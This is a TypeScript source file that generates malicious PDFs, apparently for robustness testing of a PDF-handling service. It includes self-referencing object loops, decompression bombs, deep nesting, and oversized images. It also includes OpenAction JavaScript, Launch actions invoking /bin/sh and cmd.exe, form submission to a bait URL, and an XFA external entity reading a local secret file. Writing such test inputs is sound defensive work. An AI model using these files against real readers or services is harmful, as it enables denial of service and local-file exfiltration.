import { deflateSync } from 'node:zlib';
import type { Random } from '../random.js';
import { noise, type Bait, type Kitchen, type Recipe } from './hostile-file.js';
import { catalogue, helvetica, onePage, rawPdf, shown, stream } from './raw-pdf.js';

const text = shown('Some text on the page.');

const loops: [string, () => Buffer][] = [
  [
    'a page tree that holds itself',
    () => rawPdf([catalogue(), '<< /Type /Pages /Count 10 /Kids [2 0 R 2 0 R] >>']),
  ],
  [
    'two page trees that hold each other',
    () =>
      rawPdf([
        catalogue(),
        '<< /Type /Pages /Count 9 /Kids [3 0 R] >>',
        '<< /Type /Pages /Count 9 /Kids [2 0 R] /Parent 2 0 R >>',
      ]),
  ],
  [
    'a page that is its own parent',
    () =>
      rawPdf([catalogue(), '<< /Type /Pages /Count 1 /Kids [3 0 R] >>', '<< /Type /Page /Parent 3 0 R >>']),
  ],
  [
    'a thousand million pages',
    () =>
      rawPdf([
        catalogue(),
        '<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>',
        '<< /Type /Page /Parent 2 0 R >>',
      ]),
  ],
  ['a negative number of pages', () => rawPdf([catalogue(), '<< /Type /Pages /Count -1 /Kids [] >>'])],
  [
    'a form that draws itself',
    () =>
      rawPdf(
        onePage('/X Do', {
          resources: '/XObject << /X 6 0 R >>',
          more: [
            stream(
              '/X Do',
              '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
            ),
          ],
        }),
      ),
  ],
  [
    'forms that each draw the next ten times',
    () =>
      rawPdf(
        onePage('/X Do', {
          resources: '/XObject << /X 6 0 R >>',
          more: Array.from({ length: 12 }, (_, at) =>
            stream(
              at === 11 ? text : '/X Do '.repeat(10),
              `/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /Font << /F1 5 0 R >> /XObject << /X ${7 + at} 0 R >> >>`,
            ),
          ),
        }),
      ),
  ],
  [
    'contents that are their own page',
    () => rawPdf([...onePage(text).slice(0, 2), '<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>']),
  ],
  [
    'a length that is its own stream',
    () => rawPdf(onePage(Buffer.from(`<< /Length 4 0 R >>\nstream\n${text}\nendstream`))),
  ],
  ['an object that refers to itself', () => rawPdf([...onePage(text).slice(0, 3), '4 0 R'])],
  [
    'a previous table that is this one',
    () => {
      const bytes = rawPdf(onePage(text), { trailer: '/Prev 000000' });
      const at = bytes.lastIndexOf('xref\n0');
      return Buffer.from(
        bytes.toString('latin1').replace('/Prev 000000', `/Prev ${String(at).padStart(6, '0')}`),
        'latin1',
      );
    },
  ],
  [
    'an outline that goes round',
    () =>
      rawPdf(
        onePage(text, {
          catalog: '/Outlines 6 0 R',
          more: ['<< /First 7 0 R /Last 7 0 R >>', '<< /Title (a) /Parent 6 0 R /Next 7 0 R /First 7 0 R >>'],
        }),
      ),
  ],
  [
    'a font inside itself',
    () =>
      rawPdf([
        ...onePage(text).slice(0, 4),
        '<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [5 0 R] >>',
      ]),
  ],
  [
    'a glyph that draws itself',
    () =>
      rawPdf([
        ...onePage(text).slice(0, 4),
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 32 /LastChar 122 /Encoding << /Differences [83 /S] >> /CharProcs << /S 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>',
        stream(text),
      ]),
  ],
];

const mebibyte = 1_048_576;
const repacked = (content: Buffer, times: number): Buffer => {
  let packed = content;
  for (let time = 0; time < times; time++) packed = deflateSync(packed);
  return packed;
};

const bombs: [string, () => Buffer][] = [
  [
    'a stream of 300 MiB',
    () => rawPdf(onePage(stream(deflateSync(Buffer.alloc(300 * mebibyte, ' ')), '/Filter /FlateDecode'))),
  ],
  [
    '100 MiB of text, packed three times',
    () =>
      rawPdf(
        onePage(
          stream(
            repacked(Buffer.alloc(100 * mebibyte, `${text} `), 3),
            '/Filter [/FlateDecode /FlateDecode /FlateDecode]',
          ),
        ),
      ),
  ],
  [
    'a thousand filters',
    () =>
      rawPdf(
        onePage(stream(deflateSync(Buffer.from(text)), `/Filter [${'/ASCIIHexDecode '.repeat(1_000)}]`)),
      ),
  ],
  [
    'an image of a million by a million',
    () =>
      rawPdf(
        onePage('/I Do', {
          resources: '/XObject << /I 6 0 R >>',
          more: [
            stream(
              'x',
              '/Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /ColorSpace /DeviceRGB /BitsPerComponent 8',
            ),
          ],
        }),
      ),
  ],
  [
    'arrays 100,000 deep',
    () => rawPdf([catalogue(`/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`), ...onePage(text).slice(1)]),
  ],
  [
    'dictionaries 100,000 deep',
    () =>
      rawPdf([catalogue(`/X ${'<</A '.repeat(100_000)}${'>>'.repeat(100_000)}`), ...onePage(text).slice(1)]),
  ],
  ['graphics states 200,000 deep', () => rawPdf(onePage(`${'q '.repeat(200_000)}${text}`))],
  [
    'a million strings',
    () =>
      rawPdf(
        onePage(
          stream(
            deflateSync(Buffer.from(`BT /F1 9 Tf 72 700 Td ${'(a) Tj 0 -1 Td '.repeat(1_000_000)}ET`)),
            '/Filter /FlateDecode',
          ),
        ),
      ),
  ],
  ['one string of a million letters', () => rawPdf(onePage(shown('a'.repeat(1_000_000))))],
  [
    'a thousand letters on one spot',
    () => rawPdf(onePage(`BT /F1 9 Tf ${'1 0 0 1 72 700 Tm (a) Tj '.repeat(1_000)} ET`)),
  ],
  [
    '6,000 pages',
    () =>
      rawPdf([
        catalogue(),
        `<< /Type /Pages /Count 6000 /Kids [${Array.from({ length: 6_000 }, (_, at) => `${at + 3} 0 R`).join(' ')}] >>`,
        ...Array.from({ length: 6_000 }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>'),
      ]),
  ],
  [
    'every page the same object',
    () =>
      rawPdf([
        catalogue(),
        `<< /Type /Pages /Count 4000 /Kids [${'3 0 R '.repeat(4_000)}] >>`,
        ...onePage(text).slice(2),
      ]),
  ],
  [
    'sizes of 10^30',
    () =>
      rawPdf(
        onePage(`BT /F1 ${'9'.repeat(30)} Tf ${'9'.repeat(30)} 0 0 ${'9'.repeat(30)} 0 0 Tm (big) Tj ET`),
      ),
  ],
  [
    'a map of every code to every other',
    () =>
      rawPdf([
        ...onePage(text).slice(0, 4),
        '<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 7 0 R /DescendantFonts [6 0 R] >>',
        '<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>',
        stream(
          `begincmap ${`100 beginbfrange ${'<0000> <ffff> <0041> '.repeat(100)} endbfrange `.repeat(200)} endcmap`,
        ),
      ]),
  ],
];

const actions = ({ url, secretFile, token }: Bait): [string, () => Buffer][] => [
  [
    'script that runs on opening',
    () =>
      rawPdf(onePage(text, { catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL("${url}/js")) >>` })),
  ],
  [
    'a program to start',
    () =>
      rawPdf(
        onePage(text, {
          catalog: `/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c echo ${token}) >> >>`,
        }),
      ),
  ],
  [
    'a form to send',
    () =>
      rawPdf(
        onePage(text, { catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${url}/form) >> >>` }),
      ),
  ],
  [
    'a page in another file',
    () => rawPdf(onePage(text, { catalog: `/OpenAction << /S /GoToR /F (${secretFile}) /D [0 /Fit] >>` })),
  ],
  ['a stream in another file', () => rawPdf(onePage(stream('', `/F (${secretFile})`)))],
  ['a stream on the net', () => rawPdf(onePage(stream('', `/F << /FS /URL /F (${url}/stream) >>`)))],
  [
    'XFA with an external entity',
    () =>
      rawPdf(
        onePage(text, {
          catalog: '/AcroForm << /XFA 6 0 R /Fields [] >>',
          more: [stream(`<!DOCTYPE x [<!ENTITY s SYSTEM "file://${secretFile}">]><x>&s;</x>`)],
        }),
      ),
  ],
  [
    'an attached file',
    () =>
      rawPdf(
        onePage(text, {
          catalog: `/Names << /EmbeddedFiles << /Names [(../../${token}) 6 0 R] >> >>`,
          more: [
            '<< /Type /Filespec /F (../../evil) /EF << /F 7 0 R >> >>',
            stream('attached', '/Type /EmbeddedFile'),
          ],
        }),
      ),
  ],
];

const broken: [string, () => Buffer][] = [
  ['no cross-reference table', () => rawPdf(onePage(text), { xref: false })],
  ['only a header', () => Buffer.from('%PDF-1.7\n')],
  ['only a trailer', () => rawPdf([])],
  [
    'the end first',
    () =>
      Buffer.concat([
        Buffer.from('%PDF-1.7\n%%EOF\nstartxref\n99999999999999999999\n'),
        rawPdf(onePage(text)),
      ]),
  ],
  [
    'a negative stream length',
    () => rawPdf(onePage(Buffer.from(`<< /Length -5 >>\nstream\n${text}\nendstream`))),
  ],
  [
    'a stream said to have 4 GiB',
    () => rawPdf(onePage(Buffer.from(`<< /Length 4294967295 >>\nstream\n${text}\nendstream`))),
  ],
  ['packed data that is none', () => rawPdf(onePage(stream('not packed', '/Filter /FlateDecode')))],
  [
    'JBIG2, JPX and CCITT that are none',
    () =>
      rawPdf(
        onePage('/I Do', {
          resources: '/XObject << /I 6 0 R /J 7 0 R /K 8 0 R >>',
          more: ['JBIG2Decode', 'JPXDecode', 'CCITTFaxDecode'].map((filter) =>
            stream('garbage', `/Type /XObject /Subtype /Image /Width 9 /Height 9 /Filter /${filter}`),
          ),
        }),
      ),
  ],
  [
    'protection with an absurd key',
    () =>
      rawPdf(onePage(text), {
        trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 99 /R 99 /Length 999999 /P 0 /O () /U () >>`,
      }),
  ],
  [
    'a page without anything',
    () => rawPdf([catalogue(), '<< /Type /Pages /Count 1 /Kids [3 0 R] >>', 'null']),
  ],
  ['pictures and no text', () => rawPdf(onePage('0 0 100 100 re f'))],
  [
    'an object stream that extends itself',
    () => rawPdf([...onePage(text), stream('1 0 << >>', '/Type /ObjStm /N 1000000 /First 4 /Extends 6 0 R')]),
  ],
];

const recipes = (kind: string, list: [string, () => Buffer][]): Recipe[] =>
  list.map(([about, bytes]) => ({ kind, about, make: () => ({ filename: 'attack.pdf', bytes: bytes() }) }));

/** Pages that show a picture from edge to edge; `times` as many of the same. */
const pictured = (picture: Buffer, { box = '0 0 595 842', times = 1 } = {}): Buffer => {
  const [, , width, height] = box.split(' ');
  return rawPdf([
    catalogue(),
    `<< /Type /Pages /Count ${times} /Kids [${Array.from({ length: times }, (_, at) => `${at + 5} 0 R`).join(' ')}] >>`,
    stream(`${width} 0 0 ${height} 0 0 cm /I Do`),
    picture,
    ...Array.from(
      { length: times },
      () =>
        `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 3 0 R /Resources << /XObject << /I 4 0 R >> >> >>`,
    ),
  ]);
};

const picture = (pixels: Buffer, width: number, bits: 1 | 8): Buffer =>
  stream(
    deflateSync(pixels),
    `/Type /XObject /Subtype /Image /Width ${width} /Height ${Math.floor((pixels.length * 8) / bits / width)} ` +
      `/ColorSpace /DeviceGray /BitsPerComponent ${bits} /Filter /FlateDecode`,
  );

const scans = (random: Random): [string, () => Buffer][] => {
  const [blots, dust] = [noise(random, 10_000), noise(random, 1_000_000)];
  return [
    ['a page of 350 km', () => pictured(picture(blots, 100, 8), { box: '0 0 1000000000 1000000000' })],
    ['a page of 350 m by a hair', () => pictured(picture(blots, 100, 8), { box: '0 0 1000000 1' })],
    ['4,000 pages of pictures', () => pictured(picture(blots, 100, 8), { times: 4_000 })],
    ['10,000 pages of pictures', () => pictured(picture(blots, 100, 8), { times: 10_000 })],
    ['a picture of 40,000 by 40,000', () => pictured(picture(Buffer.alloc(200_000_000, 0x55), 40_000, 1))],
    [
      'a picture that unpacks to 300 MiB',
      () => pictured(picture(Buffer.alloc(300 * mebibyte, 0x7f), 16_384, 8)),
    ],
    ['a page of dust', () => pictured(picture(dust, 1_000, 8))],
    ['twenty pages of dust', () => pictured(picture(dust, 1_000, 8), { times: 20 })],
    ['a page of specks', () => pictured(picture(dust, 2_480, 1))],
  ];
};

export const pdfAttacks = ({ bait, random }: Kitchen): Recipe[] => [
  ...recipes('PDF loop', loops),
  ...recipes('PDF bomb', bombs),
  ...recipes('PDF action', actions(bait)),
  ...recipes('PDF damage', broken),
  ...recipes('PDF scan', scans(random)),
];

/** For cutting and mutating: several pages and a font, plain and packed streams. */
export const sizeablePdf = (pages: string[]): Buffer =>
  rawPdf([
    catalogue(),
    `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, at) => `${4 + at * 2} 0 R`).join(' ')}] >>`,
    helvetica,
    ...pages.flatMap((page, at) => {
      const content = shown(page.replace(/[^\x20-\x7e]/g, 'x').replace(/[\\()]/g, ' '));
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + at * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
        at % 2 ? stream(deflateSync(Buffer.from(content)), '/Filter /FlateDecode') : stream(content),
      ];
    }),
  ]);
